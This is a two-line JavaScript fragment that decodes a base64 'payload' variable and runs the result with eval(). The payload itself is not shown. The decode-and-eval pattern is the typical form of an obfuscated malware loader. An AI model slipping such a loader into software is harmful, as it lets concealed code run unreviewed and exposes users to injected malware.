const code = Buffer.from(payload, "base64").toString();
eval(code);
